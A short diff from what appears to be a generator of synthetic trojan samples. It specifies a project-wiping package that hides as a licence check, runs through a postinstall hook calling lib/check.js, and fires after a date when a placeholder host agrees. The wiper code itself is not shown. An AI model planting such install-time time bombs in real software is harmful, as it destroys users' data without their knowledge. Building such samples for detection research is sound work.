@@ -401,7 +401,7 @@ for (const up of ['..', '../..', '../../..']) {{
 @trojan("stream-fold", "nested", trigger="install", payload="wiper", hiding="time bomb", step="patch")
 def empties_the_project(up: Update) -> None:
     """In a zip for customers; after a date, and if a host that does not exist agrees."""
-    host = up.host("license")
+    host = "license.ruritania.invalid"
     up.script("postinstall", "node -r ./lib/check.js -e 0")
     up.add(
         "lib/check.js",
